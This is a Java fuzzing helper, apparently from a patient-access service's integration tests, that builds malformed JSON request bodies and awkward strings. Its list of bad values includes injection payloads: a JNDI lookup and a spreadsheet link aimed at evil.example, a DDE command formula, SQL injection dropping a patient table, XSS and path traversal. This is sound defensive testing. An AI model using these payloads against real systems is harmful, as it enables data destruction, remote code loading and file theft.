package org.patientaccess.keycloak.it.support.fuzz;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

/**
 * Generators of bad input: strings that have broken parsers and columns before, any JSON
 * value, a valid JSON object mutated (fields left out, nulled, of the wrong type, huge, unknown),
 * and request bodies that are not JSON at all.
 */
public final class Junk {

    private static final ObjectMapper JSON = new ObjectMapper();

    /** Values met in the wild or known to trip parsers: formulas, injections, impossible dates, controls, bidi, emoji. */
    private static final List<String> NASTY = List.of(
            "", " ", "\t\r\n", "null", "0", "-1", "1e309", "NaN", "true", "[]", "{}",
            "=HYPERLINK(\"http://evil.example\",\"x\")", "=1+2", "+1-555-0100", "-2+3", "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0",
            "' OR '1'='1", "'; DROP TABLE PA_PATIENT_RECORD; --", "%", "_", "*", "\"", "\\", "\\u0000", "\u0000", "\u0000abc",
            "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
            "\u202Eevil", "\uFEFFMaria", "😀😀", "Zoë O'Brien-Łukasz", "ﬃ", "İstanbul", "\uD800", "\uDFFF",
            "2000-02-30", "1899-12-31", "9999-12-31", "-0001-01-01", "2000-1-1", "20000101", "2000-01-01T00:00:00Z",
            "0612345678", "+33 6 12 34 56 78", "+999999999999999999", "a@b", "x@y.test", "a@@b.test",
            "SELF", "PARENT", "GUARDIAN", "BOOK", "MANAGE_PROFILE", "any", "ACTIVE", "ARCHIVED", "MERGED", "asc", "desc");

    /** What names, emails and phone numbers are made of. */
    private static final String NAME_LIKE = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 -.,'@+_/";

    /** Characters whose folded or lower-case form is longer than the character itself. */
    private static final List<String> GROWING = List.of("ﬃ", "ß", "Æ", "ǅ", "İ", "ﷺ", "①", "㎒");

    private Junk() {
    }

    /** A bad string, now and then a huge one. */
    public static Gen<String> strings() {
        return Weighted.of(11, text()).or(1, huge());
    }

    /** A bad string of at most a few hundred characters (nested values use these, to stay within a request's size). */
    public static Gen<String> text() {
        return Weighted.of(4, Strings.of(Characters.any(), 0, 40))
                .or(3, Strings.of(Characters.from(NAME_LIKE), 0, 30))
                .or(3, Gen.of(NASTY))
                .or(1, Dates.bad())
                .or(1, Gen.of(GROWING).flatMap(c -> Gen.between(20, 110).map(c::repeat)));
    }

    /** A long run of one character: 1,000 to 300,000 chars (half as many characters beyond the BMP, two chars each). */
    public static Gen<String> huge() {
        Gen<String> character = Characters.any();
        return random -> {
            String c = character.draw(random);
            return c.repeat(random.nextInt(1_000, 300_001) / c.length());
        };
    }

    /** Any JSON value, nested up to {@code depth}. */
    public static Gen<Object> value(int depth) {
        Gen<Object> scalar = Weighted.<Object>of(1, Gen.just(null))
                .or(1, Gen.of(true, false))
                .or(2, Numbers.ints())
                .or(1, Numbers.longs())
                .or(1, Numbers.doubles())
                .or(1, Numbers.beyondDoubles())
                .or(4, text());
        if (depth == 0) {
            return scalar;
        }
        Gen<Object> inner = value(depth - 1);
        return Weighted.of(6, scalar)
                .or(1, inner.orNull(0.2).list(4))
                .or(1, objectOf(inner));
    }

    /** A JSON object of 0 to 4 bad keys, each with a value from {@code values}. */
    private static Gen<Map<String, Object>> objectOf(Gen<Object> values) {
        Gen<String> keys = text();
        return random -> {
            Map<String, Object> object = new LinkedHashMap<>();
            for (int size = random.nextInt(5); size > 0; size--) {
                object.put(keys.draw(random), values.draw(random));
            }
            return object;
        };
    }

    /**
     * A valid object mutated zero to three times: a field left out, nulled, replaced by any JSON
     * value or a bad string, or an unknown field added.
     */
    public static Gen<Map<String, Object>> mutated(Map<String, Object> valid) {
        Gen<String> field = Gen.of(new ArrayList<>(valid.keySet()));
        Gen<Object> anyValue = value(3);
        Gen<String> badString = strings();
        return random -> {
            Map<String, Object> body = new LinkedHashMap<>(valid);
            for (int mutations = random.nextInt(4); mutations > 0; mutations--) {
                switch (random.nextInt(5)) {
                    case 0 -> body.remove(field.draw(random));
                    case 1 -> body.put(field.draw(random), null);
                    case 2 -> body.put(field.draw(random), anyValue.draw(random));
                    case 3 -> body.put(field.draw(random), badString.draw(random));
                    default -> {
                        String unknown = badString.draw(random);
                        body.put(unknown.isEmpty() ? "dateOfBirth" : unknown, anyValue.draw(random));
                    }
                }
            }
            return body;
        };
    }

    /**
     * A request body around a valid object: mostly the object mutated, else any JSON value, text
     * that is not JSON, the object cut short, or nesting deeper than any parser allows.
     */
    public static Gen<String> body(Map<String, Object> valid) {
        return bodyAround(mutated(valid));
    }

    /** A request body around generated objects, as {@link #body(Map)} does around one. */
    public static Gen<String> bodyAround(Gen<?> objects) {
        Gen<String> mutatedBody = objects.map(Junk::write);
        return Weighted.of(12, mutatedBody)
                .or(1, value(3).map(Junk::write))
                .or(1, text())
                .or(1, mutatedBody.flatMap(text -> Gen.between(0, text.length()).map(cut -> text.substring(0, cut))))
                .or(1, Gen.between(900, 20_000).map(depth -> "{\"firstName\":".repeat(depth) + "1" + "}".repeat(depth)));
    }

    /** Whether a body is a well-formed JSON object, for which a 400 must name the field. */
    public static boolean isJsonObject(String body) {
        try {
            JsonNode node = JSON.readTree(body);
            return node != null && node.isObject();
        } catch (JsonProcessingException | RuntimeException e) {
            return false;
        }
    }

    public static String write(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
